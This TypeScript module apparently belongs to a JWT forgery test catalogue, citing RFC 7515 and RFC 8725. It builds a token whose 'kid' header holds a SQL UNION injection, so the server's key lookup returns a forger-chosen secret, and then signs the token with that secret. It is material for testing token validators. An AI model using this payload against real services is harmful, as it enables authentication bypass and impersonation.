/** A `kid` that makes the lookup's query return a secret of the forger's choice. */
import { rfc } from '#sources/sources';
import { encodeBase64url } from '#text/base64url';
import { encodeUtf8 } from '#text/utf8';
import type { Forgery } from '../forgery';
import { signHs256, withParameters } from '../header';

const SECRET = encodeUtf8('a secret that the forger chose');

export default {
  label: 'kid as SQL',
  order: 6,
  says: 'The "kid" ends the string in the query and adds a row by the forger. The forger signs with the secret in that row.',
  sources: [rfc(7515, '4.1.4'), rfc(8725, '3.10')],
  forge: async ({ header, payload }) => {
    const forged = withParameters(header, {
      alg: 'HS256',
      kid: `' UNION SELECT '${encodeBase64url(SECRET)}' -- `,
    });
    return [{ compact: await signHs256(forged, payload, SECRET) }];
  },
} satisfies Forgery;
